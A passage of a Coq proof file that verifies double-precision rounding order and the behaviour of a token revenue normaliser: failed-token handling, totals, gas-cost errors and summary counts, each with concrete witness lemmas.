    assert (Hex : (ilog2 x - 52 <= exponentOf x)%Z) by (unfold exponentOf; lia).
    destruct (ilog2_spec x Hx) as [_ Hx2]. destruct (ilog2_spec y Hy) as [Hy1 _].
    apply (Qle_trans _ (pow2 (exponentOf x + 53))).
    + rewrite pow2_add, (Qmult_comm (pow2 (exponentOf x)) (pow2 53)).
      apply Qmult_le_compat_r; [ | apply Qlt_le_weak, pow2_pos ].
      rewrite (pow2_nonneg_exp 53) by lia. rewrite <- Zle_Qle.
      apply roundHalfEven_le. rewrite <- (pow2_nonneg_exp 53) by lia.
      rewrite <- (scaled_pow2 53 (exponentOf x)). apply scaled_le.
      apply (Qle_trans _ (pow2 (ilog2 x + 1))); [ apply Qlt_le_weak; exact Hx2 | ].
      apply pow2_mono. lia.
    + apply (Qle_trans _ (pow2 (exponentOf y + 52))); [ apply pow2_mono; lia | ].
      rewrite pow2_add, (Qmult_comm (pow2 (exponentOf y)) (pow2 52)).
      apply Qmult_le_compat_r; [ | apply Qlt_le_weak, pow2_pos ].
      rewrite (pow2_nonneg_exp 52) by lia. rewrite <- Zle_Qle.
      apply roundHalfEven_ge. rewrite <- (pow2_nonneg_exp 52) by lia.
      rewrite <- (scaled_pow2 52 (exponentOf y)). apply scaled_le.
      replace (exponentOf y + 52)%Z with (ilog2 y) by lia. exact Hy1.
Qed.

Lemma nearest_nonneg (q : Q) : 0 < q -> 0 <= nearest q.
Proof.
  intros Hq. unfold nearest. apply Qmult_le_0_compat; [ | apply Qlt_le_weak, pow2_pos ].
  change 0 with (inject_Z 0). rewrite <- Zle_Qle. apply roundHalfEven_ge.
  apply Qlt_le_weak. unfold Qdiv. apply Qmult_lt_0_compat; [ exact Hq | ].
  apply Qinv_lt_0_compat, pow2_pos.
Qed.

Lemma round64_positive (q : Q) : 0 < q -> round64 q == nearest q.
Proof.
  intros Hq. pose proof (Qnum_pos q Hq) as Hn. unfold round64.
  destruct q as [n d]. cbn [Qnum] in *.
  destruct n as [ | p | p ]; try lia.
  cbn [Z.eqb Z.ltb Z.compare]. rewrite Qred_correct. reflexivity.
Qed.

Lemma round64_negative (q : Q) : q < 0 -> round64 q == - nearest (- q).
Proof.
  intros Hq. unfold round64. destruct q as [n d].
  assert (Hn : (n < 0)%Z) by (unfold Qlt in Hq; cbn [Qnum Qden] in Hq; lia).
  destruct n as [ | p | p ]; try lia.
  cbn [Qnum Z.eqb Z.ltb Z.compare]. rewrite Qred_correct. reflexivity.
Qed.

Lemma round64_zero (q : Q) : q == 0 -> round64 q = 0.
Proof.
  intros Hq. unfold round64. destruct q as [n d].
  assert (Hn : n = 0%Z) by (unfold Qeq in Hq; cbn [Qnum Qden] in Hq; lia).
  subst n. reflexivity.
Qed.

(** Rounding to the nearest double keeps the order of the rationals. *)
Lemma round64_monotone (x y : Q) : x <= y -> round64 x <= round64 y.
Proof.
  intros Hxy.
  destruct (Q_dec x 0) as [[Hx | Hx] | Hx]; destruct (Q_dec y 0) as [[Hy | Hy] | Hy].
  - rewrite (round64_negative x Hx), (round64_negative y Hy).
    apply Qopp_le_compat. apply nearest_mono; lra.
  - rewrite (round64_negative x Hx), (round64_positive y Hy).
    pose proof (nearest_nonneg (- x) ltac:(lra)). pose proof (nearest_nonneg y Hy). lra.
  - rewrite (round64_negative x Hx), (round64_zero y Hy).
    pose proof (nearest_nonneg (- x) ltac:(lra)). lra.
  - lra.
  - rewrite (round64_positive x Hx), (round64_positive y Hy). apply nearest_mono; assumption.
  - lra.
  - rewrite (round64_zero x Hx), (round64_negative y Hy). lra.
  - rewrite (round64_zero x Hx), (round64_positive y Hy). apply nearest_nonneg. exact Hy.
  - rewrite (round64_zero x Hx), (round64_zero y Hy). apply Qle_refl.
Qed.

End RoundingOrder.

(** In either arithmetic, rounding keeps the order, and the whole numbers
    of the sources are their own doubles. *)
Lemma rnd_monotone (exact : bool) (x y : Q) :
  (x <= y)%Q -> (@JsNum.rnd (Scenario.arith exact) x <= @JsNum.rnd (Scenario.arith exact) y)%Q.
Proof.
  intros H. destruct exact; cbn [Scenario.arith JsNum.rnd JsNum.Exact JsNum.Binary64].
  - rewrite !Qred_correct. exact H.
  - apply round64_monotone. exact H.
Qed.

Lemma lit_whole (exact : bool) :
  Forall (fun q : Q => @JsNum.rnd (Scenario.arith exact) q = q)
    [0; 20; 50; 60; 80; 100; 1000; 100000; 200000; 300000; 1000000; 1100000]%Q.
Proof. destruct exact; repeat constructor. Qed.

Lemma lit_is (exact : bool) (q : Q) :
  In q [0; 20; 50; 60; 80; 100; 1000; 100000; 200000; 300000; 1000000; 1100000]%Q ->
  @JsNum.rnd (Scenario.arith exact) q = q.
Proof. intros H. pose proof (lit_whole exact) as Hall. rewrite Forall_forall in Hall. auto. Qed.

(** ** RevenueNormalizer: what a call returns, and when it throws *)

Section NormaliserRecord.

Import RevenueNormalizer.
Context {A : JsNum.Arith}.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.

(** The record that [execute] returns, field by field, from the totals
    of the loop and the gas costs. *)
Lemma execute_record (args : Args) (out : Output) :
  execute priceOracle ethers args = Ok out ->
  exists native gas,
    (0 < arg_chainId args)%Z
    /\ PriceOracleService.getNativeTokenPrice priceOracle (arg_chainId args) (arg_blockNumber args)
       = Ok native
    /\ calculateGasCosts ethers (arg_gasUsed args) (arg_gasPrice args) native = Ok gas
    /\ out
       = let totals := processTokens priceOracle ethers (arg_chainId args) (arg_blockNumber args)
                         (arg_extractedTokens args) in
         let net := JsNum.sub (sumUSD totals) (costUSD gas) in
         {| chainId := arg_chainId args;
            blockNumber := match arg_blockNumber args with
                           | Some b => if String.eqb b EmptyString then "latest" else b
                           | None => "latest"
                           end;
            nativeTokenPrice := native;
            extractedTokens := normalizedTokens totals;
            totalValueUSD := JsNum.Number_toFixed 2 (sumUSD totals);
            totalValueETH := JsNum.Number_toFixed 6 (sumETH totals);
            gasCosts := gas;
            netProfitUSD := JsNum.Number_toFixed 2 net;
            netProfitETH := JsNum.Number_toFixed 6 (JsNum.sub (sumETH totals) (costETH gas));
            isProfitable := JsNum.gt net (JsNum.lit 0);
            profitabilityRatio :=
              if JsNum.gt (sumUSD totals) (JsNum.lit 0)
              then JsNum.Number_toFixed 4 (JsNum.div net (sumUSD totals))
              else JsNum.lit 0;
            marketData := getMarketContext (normalizedTokens totals);
            summary :=
              {| totalTokens := List.length (arg_extractedTokens args);
                 successfulNormalizations :=
                   List.length (filter (fun t => negb (truthyText (error t)))
                                  (normalizedTokens totals));
                 highLiquidityTokens :=
                   List.length (filter (fun t => String.eqb (liquidity t) "high")
                                  (normalizedTokens totals));
                 riskLevel := assessRiskLevel (normalizedTokens totals) net |} |}.
Proof.
  unfold execute, normalize. intros H.
  destruct (0 <? arg_chainId args)%Z eqn:Hchain; [ | discriminate H ].
  apply Z.ltb_lt in Hchain.
  destruct (PriceOracleService.getNativeTokenPrice priceOracle (arg_chainId args)
              (arg_blockNumber args)) as [native | ]; cbn [bind] in H; [ | discriminate H ].
  destruct (calculateGasCosts ethers (arg_gasUsed args) (arg_gasPrice args) native)
    as [gas | ] eqn:Hgas; cbn [bind] in H; [ | discriminate H ].
  injection H as <-. exists native, gas.
  split; [ exact Hchain | ]. split; [ reflexivity | ]. split; [ exact Hgas | reflexivity ].
Qed.

(** The entries of the record are those of the loop, token by token. *)
Lemma execute_entries (args : Args) (out : Output) :
  execute priceOracle ethers args = Ok out ->
  extractedTokens out
  = map (TwoTokens.entryOf priceOracle ethers (arg_chainId args) (arg_blockNumber args))
      (arg_extractedTokens args).
Proof.
  intros H. apply execute_record in H. destruct H as (native & gas & _ & _ & _ & ->).
  cbn [extractedTokens]. unfold processTokens. rewrite processToken_entries. reflexivity.
Qed.

(** What a successful normalisation reports of the market of its token. *)
Lemma normalizeToken_market (token : Extracted.ExtractedToken) (chainId : Z)
  (blockNumber : option string) (n : NormalizedToken) :
  normalizeToken priceOracle ethers token chainId blockNumber = Ok n ->
  exists priceData,
    PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId blockNumber
    = Ok priceData
    /\ liquidityUSD n = Some (PriceOracleService.liquidityUSD priceData)
    /\ liquidity n = assessLiquidity (PriceOracleService.liquidityUSD priceData)
    /\ priceImpact n = Some (PriceOracleService.priceImpact priceData)
    /\ sources n = Some (PriceOracleService.sources priceData)
    /\ confidence n = Some (PriceOracleService.confidence priceData).
Proof.
  unfold normalizeToken. intros H.
  destruct (negb (truthyText (fst (Extracted.symbol token, Extracted.decimals token)))
            || negb (truthyInt (snd (Extracted.symbol token, Extracted.decimals token)))).
  - destruct (PriceOracleService.getTokenMetadata priceOracle (Extracted.address token) chainId)
      as [fetched | ]; cbn [bind] in H; [ | discriminate H ].
    match type of H with context [formatUnits ethers ?a ?d] =>
      destruct (formatUnits ethers a d) as [amountDecimal | ]; cbn [bind] in H;
        [ | discriminate H ]
    end.
    destruct (PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId
                blockNumber) as [priceData | ]; cbn [bind] in H; [ | discriminate H ].
    injection H as <-. exists priceData. cbn. repeat split.
  - cbn [bind] in H.
    match type of H with context [formatUnits ethers ?a ?d] =>
      destruct (formatUnits ethers a d) as [amountDecimal | ]; cbn [bind] in H;
        [ | discriminate H ]
    end.
    destruct (PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId
                blockNumber) as [priceData | ]; cbn [bind] in H; [ | discriminate H ].
    injection H as <-. exists priceData. cbn. repeat split.
Qed.

(** [assessLiquidity] answers one of its four classes, never 'unknown'. *)
Lemma assessLiquidity_class (liquidityUSD : Q) :
  In (assessLiquidity liquidityUSD) Entries.liquidityClasses
  /\ assessLiquidity liquidityUSD <> "unknown".
Proof.
  unfold assessLiquidity, Entries.liquidityClasses.
  destruct (JsNum.gt liquidityUSD (JsNum.lit 1000000));
    [ split; [ simpl; tauto | discriminate ] | ].
  destruct (JsNum.gt liquidityUSD (JsNum.lit 100000));
    [ split; [ simpl; tauto | discriminate ] | ].
  destruct (JsNum.gt liquidityUSD (JsNum.lit 10000));
    split; first [ simpl; tauto | discriminate ].
Qed.

(** An entry of the loop, by the outcome of the normalisation of its token. *)
Lemma entryOf_cases (chainId : Z) (blockNumber : option string)
  (token : Extracted.ExtractedToken) :
  let entry := TwoTokens.entryOf priceOracle ethers chainId blockNumber token in
  (Entries.normalises priceOracle ethers chainId blockNumber token = true
   /\ normalizeToken priceOracle ethers token chainId blockNumber = Ok entry
   /\ error entry = None)
  \/ (Entries.normalises priceOracle ethers chainId blockNumber token = false
      /\ exists message,
           normalizeToken priceOracle ethers token chainId blockNumber = Throw message
           /\ entry = failedToken token message).
Proof.
  unfold TwoTokens.entryOf, Entries.normalises.
  destruct (normalizeToken priceOracle ethers token chainId blockNumber) as [n | message] eqn:E.
  - left. split; [ reflexivity | ]. split; [ reflexivity | ].
    apply normalizeToken_ok in E. tauto.
  - right. split; [ reflexivity | ]. exists message. split; reflexivity.
Qed.

(** The totals of the loop do not see the tokens whose normalisation
    throws. *)
Lemma totals_skip_failures (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) (acc acc' : Totals) :
  sumUSD acc = sumUSD acc' -> sumETH acc = sumETH acc' ->
  sumUSD (fold_left (processToken priceOracle ethers chainId blockNumber) tokens acc)
  = sumUSD (fold_left (processToken priceOracle ethers chainId blockNumber)
              (filter (Entries.normalises priceOracle ethers chainId blockNumber) tokens) acc')
  /\ sumETH (fold_left (processToken priceOracle ethers chainId blockNumber) tokens acc)
     = sumETH (fold_left (processToken priceOracle ethers chainId blockNumber)
                 (filter (Entries.normalises priceOracle ethers chainId blockNumber) tokens) acc').
Proof.
  revert acc acc'. induction tokens as [ | token tokens IH ]; intros acc acc' Husd Heth.
  - split; assumption.
  - cbn [filter].
    destruct (normalizeToken priceOracle ethers token chainId blockNumber) as [n | message] eqn:E.
    + assert (Hn : Entries.normalises priceOracle ethers chainId blockNumber token = true)
        by (unfold Entries.normalises; rewrite E; reflexivity).
      rewrite Hn. cbn [fold_left].
      apply IH; unfold processToken; rewrite E; cbn [sumUSD sumETH]; congruence.
    + assert (Hn : Entries.normalises priceOracle ethers chainId blockNumber token = false)
        by (unfold Entries.normalises; rewrite E; reflexivity).
      rewrite Hn. cbn [fold_left].
      apply IH; unfold processToken; rewrite E; cbn [sumUSD sumETH]; assumption.
Qed.

Lemma processTokens_skip_failures (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) :
  sumUSD (processTokens priceOracle ethers chainId blockNumber tokens)
  = sumUSD (processTokens priceOracle ethers chainId blockNumber
              (filter (Entries.normalises priceOracle ethers chainId blockNumber) tokens))
  /\ sumETH (processTokens priceOracle ethers chainId blockNumber tokens)
     = sumETH (processTokens priceOracle ethers chainId blockNumber
                 (filter (Entries.normalises priceOracle ethers chainId blockNumber) tokens)).
Proof. unfold processTokens. apply totals_skip_failures; reflexivity. Qed.

Lemma entries_skip_failures (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) :
  map (TwoTokens.entryOf priceOracle ethers chainId blockNumber)
    (filter (Entries.normalises priceOracle ethers chainId blockNumber) tokens)
  = filter Entries.withoutError
      (map (TwoTokens.entryOf priceOracle ethers chainId blockNumber) tokens).
Proof.
  induction tokens as [ | token tokens IH ]; [ reflexivity | ].
  cbn [filter map].
  destruct (entryOf_cases chainId blockNumber token) as [(Hn & _ & He) | (Hn & message & _ & He)];
    rewrite Hn.
  - unfold Entries.withoutError at 1. rewrite He. cbn [map]. rewrite IH. reflexivity.
  - rewrite He. cbn [Entries.withoutError error failedToken]. exact IH.
Qed.

(** The number of entries that pass a test, by the tokens they come from. *)
Lemma count_entries (p : NormalizedToken -> bool) (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) :
  List.length
    (filter p (map (TwoTokens.entryOf priceOracle ethers chainId blockNumber) tokens))
  = List.length
      (filter (fun token => p (TwoTokens.entryOf priceOracle ethers chainId blockNumber token))
         tokens).
Proof.
  induction tokens as [ | token tokens IH ]; [ reflexivity | ].
  cbn [map]. rewrite !length_filter_cons, IH. reflexivity.
Qed.

Lemma count_le {T : Type} (p q : T -> bool) (l : list T) :
  (forall x, p x = true -> q x = true) ->
  (List.length (filter p l) <= List.length (filter q l))%nat.
Proof.
  intros Hpq. induction l as [ | x l IH ]; [ apply Nat.le_refl | ].
  rewrite !length_filter_cons. specialize (Hpq x).
  destruct (p x), (q x); first [ lia | discriminate (Hpq eq_refl) ].
Qed.

Lemma count_split {T : Type} (p q r : T -> bool) (l : list T) :
  (forall x, p x = q x || r x) -> (forall x, q x && r x = false) ->
  List.length (filter p l) = (List.length (filter q l) + List.length (filter r l))%nat.
Proof.
  intros Hp Hqr. induction l as [ | x l IH ]; [ reflexivity | ].
  rewrite !length_filter_cons, IH, Hp. specialize (Hqr x).
  destruct (q x), (r x); try reflexivity; try discriminate Hqr; cbn; lia.
Qed.

(** [BigInt] accepts the integers only. *)
Lemma BigInt_integer (x : Q) (k : Z) : BigInt x = Ok k -> (x == inject_Z k)%Q.
Proof.
  unfold BigInt. destruct (Zpos (Qden (Qred x)) =? 1)%Z eqn:E; [ | discriminate ].
  intros H. injection H as <-. apply Z.eqb_eq in E.
  rewrite <- (Qred_correct x) at 1.
  destruct (Qred x) as [n d]. cbn [Qnum Qden] in *. injection E as ->. reflexivity.
Qed.

End NormaliserRecord.

(** X1: in every record that [execute] returns, in any arithmetic and
    with any price oracle, an entry carries an error exactly when its
    liquidity is 'unknown'; such an entry has the prices and the values 0
    and none of the market fields; every other entry carries the liquidity
    of its market, which [assessLiquidity] puts in one of the classes
    high, medium, low and very-low. *)
Theorem X1_unknown_liquidity_marks_the_failed_tokens :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (out : RevenueNormalizer.Output),
    RevenueNormalizer.execute priceOracle ethers args = Ok out ->
    Forall
      (fun entry =>
         (Entries.withoutError entry = false <-> RevenueNormalizer.liquidity entry = "unknown")
         /\ (Entries.withoutError entry = false ->
             RevenueNormalizer.valueUSD entry = JsNum.lit 0
             /\ RevenueNormalizer.valueETH entry = JsNum.lit 0
             /\ RevenueNormalizer.priceUSD entry = JsNum.lit 0
             /\ RevenueNormalizer.priceETH entry = JsNum.lit 0
             /\ RevenueNormalizer.amountDecimal entry = None
             /\ RevenueNormalizer.liquidityUSD entry = None
             /\ RevenueNormalizer.priceImpact entry = None
             /\ RevenueNormalizer.sources entry = None
             /\ RevenueNormalizer.confidence entry = None)
         /\ (Entries.withoutError entry = true ->
             exists liquidityUSD,
               RevenueNormalizer.liquidityUSD entry = Some liquidityUSD
               /\ RevenueNormalizer.liquidity entry
                  = RevenueNormalizer.assessLiquidity liquidityUSD
               /\ In (RevenueNormalizer.liquidity entry) Entries.liquidityClasses))
      (RevenueNormalizer.extractedTokens out).
Proof.
  intros A priceOracle ethers args out H.
  rewrite (execute_entries priceOracle ethers args out H).
  apply Forall_forall. intros entry Hin. apply in_map_iff in Hin.
  destruct Hin as (token & <- & _).
  destruct (entryOf_cases priceOracle ethers (RevenueNormalizer.arg_chainId args)
              (RevenueNormalizer.arg_blockNumber args) token)
    as [(_ & Hok & He) | (_ & message & _ & ->)].
  - destruct (normalizeToken_market priceOracle ethers _ _ _ _ Hok)
      as (priceData & _ & Hl & Hc & _).
    destruct (assessLiquidity_class (PriceOracleService.liquidityUSD priceData))
      as [Hclass Hknown].
    unfold Entries.withoutError. rewrite He, Hc.
    split; [ split; [ discriminate | intros Hu; contradiction ] | ].
    split; [ discriminate | ].
    intros _. exists (PriceOracleService.liquidityUSD priceData).
    split; [ exact Hl | ]. split; [ reflexivity | exact Hclass ].
  - cbn. split; [ split; reflexivity | ].
    split; [ intros _; repeat split | discriminate ].
Qed.

(** X1 applies: a dollar coin in a deep market, then a token with a
    malformed amount; the first entry is of high liquidity, the second of
    unknown liquidity. *)
Lemma X1_unknown_liquidity_witness :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) = Ok out
    /\ map RevenueNormalizer.liquidity (RevenueNormalizer.extractedTokens out)
       = ["high"; "unknown"]
    /\ Forall (fun entry =>
                 Entries.withoutError entry = false
                 <-> RevenueNormalizer.liquidity entry = "unknown")
         (RevenueNormalizer.extractedTokens out).
Proof.
  eexists. split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  eapply Forall_impl;
    [ | exact (X1_unknown_liquidity_marks_the_failed_tokens JsNum.Binary64
                 (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
                 (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) _ eq_refl) ].
  intros entry Hentry. exact (proj1 Hentry).
Defined.

(** X2: the tokens whose normalisation throws add nothing to the
    figures of the record.  For every call that returns, in any arithmetic
    and with any price oracle, the same call on the tokens that normalise
    alone returns too, with the same totals, gas costs, net profits,
    profitability flag and ratio; its entries are the entries of the first
    record that carry no error, in the same order. *)
Theorem X2_failing_tokens_add_nothing_to_the_totals :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (out : RevenueNormalizer.Output),
    RevenueNormalizer.execute priceOracle ethers args = Ok out ->
    exists out',
      RevenueNormalizer.execute priceOracle ethers
        (Entries.withTokens args
           (filter (Entries.normalises priceOracle ethers (RevenueNormalizer.arg_chainId args)
                      (RevenueNormalizer.arg_blockNumber args))
                   (RevenueNormalizer.arg_extractedTokens args))) = Ok out'
      /\ RevenueNormalizer.totalValueUSD out' = RevenueNormalizer.totalValueUSD out
      /\ RevenueNormalizer.totalValueETH out' = RevenueNormalizer.totalValueETH out
      /\ RevenueNormalizer.gasCosts out' = RevenueNormalizer.gasCosts out
      /\ RevenueNormalizer.netProfitUSD out' = RevenueNormalizer.netProfitUSD out
      /\ RevenueNormalizer.netProfitETH out' = RevenueNormalizer.netProfitETH out
      /\ RevenueNormalizer.isProfitable out' = RevenueNormalizer.isProfitable out
      /\ RevenueNormalizer.profitabilityRatio out' = RevenueNormalizer.profitabilityRatio out
      /\ RevenueNormalizer.extractedTokens out'
         = filter Entries.withoutError (RevenueNormalizer.extractedTokens out).
Proof.
  intros A priceOracle ethers args out H.
  pose proof (execute_entries priceOracle ethers args out H) as Hentries.
  apply execute_record in H. destruct H as (native & gas & Hchain & Hnative & Hgas & Hout).
  destruct (execute_returns priceOracle ethers
              (Entries.withTokens args
                 (filter (Entries.normalises priceOracle ethers
                            (RevenueNormalizer.arg_chainId args)
                            (RevenueNormalizer.arg_blockNumber args))
                         (RevenueNormalizer.arg_extractedTokens args)))
              native gas Hchain Hnative Hgas) as (out' & Hout' & Hentries' & _).
  exists out'. split; [ exact Hout' | ].
  apply execute_record in Hout'.
  destruct Hout' as (native' & gas' & _ & Hnative' & Hgas' & ->).
  cbn [Entries.withTokens RevenueNormalizer.arg_chainId RevenueNormalizer.arg_blockNumber
       RevenueNormalizer.arg_gasUsed RevenueNormalizer.arg_gasPrice
       RevenueNormalizer.arg_extractedTokens] in *.
  rewrite Hnative in Hnative'. injection Hnative' as <-.
  rewrite Hgas in Hgas'. injection Hgas' as <-.
  destruct (processTokens_skip_failures priceOracle ethers (RevenueNormalizer.arg_chainId args)
              (RevenueNormalizer.arg_blockNumber args) (RevenueNormalizer.arg_extractedTokens args))
    as [Husd Heth].
  subst out.
  cbn [RevenueNormalizer.totalValueUSD RevenueNormalizer.totalValueETH
       RevenueNormalizer.gasCosts RevenueNormalizer.netProfitUSD RevenueNormalizer.netProfitETH
       RevenueNormalizer.isProfitable RevenueNormalizer.profitabilityRatio].
  rewrite <- Husd, <- Heth.
  repeat (split; [ reflexivity | ]).
  cbn [RevenueNormalizer.extractedTokens] in Hentries, Hentries' |- *.
  rewrite Hentries', Hentries. apply entries_skip_failures.
Qed.

(** X2 applies: a dollar coin and a token with a malformed amount; the
    call on the dollar coin alone reports the same total of one dollar. *)
Lemma X2_failing_tokens_witness :
  exists out out',
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) = Ok out
    /\ @RevenueNormalizer.execute JsNum.Binary64
         (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
         (TwoTokens.argsOf [TwoTokens.oneDollar]) = Ok out'
    /\ RevenueNormalizer.totalValueUSD out = 1%Q
    /\ RevenueNormalizer.totalValueUSD out' = RevenueNormalizer.totalValueUSD out.
Proof.
  destruct (X2_failing_tokens_add_nothing_to_the_totals JsNum.Binary64
              (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
              (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) _ eq_refl)
    as (out' & Hout' & Htotal & _).
  eexists. exists out'.
  split; [ reflexivity | ]. split; [ exact Hout' | ].
  split; [ vm_compute; reflexivity | exact Htotal ].
Defined.

(** X3: [execute] returns exactly when the chain id is positive, the
    native price resolves and the gas computation does not throw -- no
    token can make it throw.  When it throws, the message is that of the
    schema for a chain id that is not positive, and otherwise 'Revenue
    normalization failed: ' followed by the message of the native price
    lookup or of the gas computation.  Whether it returns does not depend
    on the list of tokens. *)
Theorem X3_execute_throws_exactly_when :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args),
    let native :=
      PriceOracleService.getNativeTokenPrice priceOracle
        (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args) in
    let gasOn := RevenueNormalizer.calculateGasCosts ethers
                   (RevenueNormalizer.arg_gasUsed args) (RevenueNormalizer.arg_gasPrice args) in
    ((exists out, RevenueNormalizer.execute priceOracle ethers args = Ok out)
     <-> (0 < RevenueNormalizer.arg_chainId args)%Z
         /\ exists price gas, native = Ok price /\ gasOn price = Ok gas)
    /\ (forall message,
           RevenueNormalizer.execute priceOracle ethers args = Throw message ->
           ((RevenueNormalizer.arg_chainId args <= 0)%Z /\ message = "ZodError")
           \/ exists cause,
                message = "Revenue normalization failed: " ++ cause
                /\ (native = Throw cause
                    \/ exists price, native = Ok price /\ gasOn price = Throw cause))
    /\ (forall tokens,
           (exists out, RevenueNormalizer.execute priceOracle ethers args = Ok out)
           <-> (exists out,
                   RevenueNormalizer.execute priceOracle ethers (Entries.withTokens args tokens)
                   = Ok out)).
Proof.
  intros A priceOracle ethers args native gasOn.
  assert (Hreturns : forall args' : RevenueNormalizer.Args,
             (exists out, RevenueNormalizer.execute priceOracle ethers args' = Ok out)
             <-> (0 < RevenueNormalizer.arg_chainId args')%Z
                 /\ exists price gas,
                      PriceOracleService.getNativeTokenPrice priceOracle
                        (RevenueNormalizer.arg_chainId args')
                        (RevenueNormalizer.arg_blockNumber args') = Ok price
                      /\ RevenueNormalizer.calculateGasCosts ethers
                           (RevenueNormalizer.arg_gasUsed args')
                           (RevenueNormalizer.arg_gasPrice args') price = Ok gas).
  { intros args'. split.
    - intros [out H]. apply execute_record in H.
      destruct H as (price & gas & Hchain & Hnative & Hgas & _).
      split; [ exact Hchain | ]. exists price, gas. split; assumption.
    - intros (Hchain & price & gas & Hnative & Hgas).
      destruct (execute_returns priceOracle ethers args' price gas Hchain Hnative Hgas)
        as (out & Hout & _).
      exists out. exact Hout. }
  split; [ apply Hreturns | ]. split.
  - intros message H. unfold RevenueNormalizer.execute, RevenueNormalizer.normalize in H.
    fold native in H. fold gasOn in H.
    destruct (0 <? RevenueNormalizer.arg_chainId args)%Z eqn:Hchain.
    + right. destruct native as [price | cause]; cbn [bind] in H.
      * destruct (gasOn price) as [gas | cause] eqn:Hgas; cbn [bind] in H;
          [ discriminate H | ].
        injection H as <-. exists cause. split; [ reflexivity | ].
        right. exists price. split; [ reflexivity | exact Hgas ].
      * injection H as <-. exists cause. split; [ reflexivity | left; reflexivity ].
    + left. apply Z.ltb_ge in Hchain. injection H as <-. split; [ exact Hchain | reflexivity ].
  - intros tokens. rewrite (Hreturns args), (Hreturns (Entries.withTokens args tokens)).
    reflexivity.
Qed.

(** X4: the schema takes any number for [gasUsed], but the gas
    computation converts it with [BigInt]: when the gas price is given and
    the native price is not zero, a [gasUsed] that is not an integer makes
    the whole call throw, whatever the tokens; no record is returned. *)
Theorem X4_fractional_gas_rejects_the_call :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (used price : Q),
    RevenueNormalizer.arg_gasUsed args = Some used ->
    PriceOracleService.getNativeTokenPrice priceOracle
      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args) = Ok price ->
    Entries.gasInputsComplete (Some used) (RevenueNormalizer.arg_gasPrice args) price = true ->
    (forall k : Z, ~ (used == inject_Z k)%Q) ->
    exists message, RevenueNormalizer.execute priceOracle ethers args = Throw message.
Proof.
  intros A priceOracle ethers args used price Hused Hnative Hcomplete Hfraction.
  unfold RevenueNormalizer.execute, RevenueNormalizer.normalize.
  destruct (0 <? RevenueNormalizer.arg_chainId args)%Z; [ | eexists; reflexivity ].
  rewrite Hnative. cbn [bind]. rewrite Hused.
  unfold Entries.gasInputsComplete in Hcomplete.
  unfold RevenueNormalizer.calculateGasCosts.
  destruct (RevenueNormalizer.arg_gasPrice args) as [gasPrice | ]; [ | discriminate Hcomplete ].
  apply andb_true_iff in Hcomplete. destruct Hcomplete as [Hcomplete Hp].
  apply andb_true_iff in Hcomplete. destruct Hcomplete as [Hu Hg].
  cbn [RevenueNormalizer.truthyText]. rewrite Hu, Hg, Hp. cbn [negb orb].
  destruct (parseUnits ethers gasPrice 9) as [gasPriceWei | cause]; cbn [bind];
    [ | eexists; reflexivity ].
  destruct (RevenueNormalizer.BigInt used) as [usedInt | cause] eqn:Hint; cbn [bind];
    [ | eexists; reflexivity ].
  exfalso. exact (Hfraction usedInt (BigInt_integer used usedInt Hint)).
Qed.

(** X4 applies: 21000.5 units of gas at 20 gwei on chain 1. *)
Lemma X4_fractional_gas_witness :
  exists message,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      Entries.fractionalGas = Throw message.
Proof.
  apply (X4_fractional_gas_rejects_the_call JsNum.Binary64
           (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
           Entries.fractionalGas (42001 # 2) (@JsNum.lit JsNum.Binary64 3000)
           eq_refl eq_refl eq_refl).
  intros k Hk. unfold Qeq, inject_Z in Hk. simpl in Hk. lia.
Defined.

(** X5: the counts of the summary, in every record that [execute]
    returns.  [totalTokens] is the number of entries.  An entry counts as
    a successful normalisation when its error is missing or empty, so
    [successfulNormalizations] is the number of tokens that normalised
    plus the number of tokens whose normalisation threw an error with an
    empty message.  The tokens of high liquidity are counted alike in the
    summary and in the market data, and like the risk tokens of the market
    data they are among the tokens that normalised. *)
Theorem X5_summary_counts :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (out : RevenueNormalizer.Output),
    RevenueNormalizer.execute priceOracle ethers args = Ok out ->
    let tokens := RevenueNormalizer.arg_extractedTokens args in
    let normalised :=
      RiskSpec.countIf
        (Entries.normalises priceOracle ethers (RevenueNormalizer.arg_chainId args)
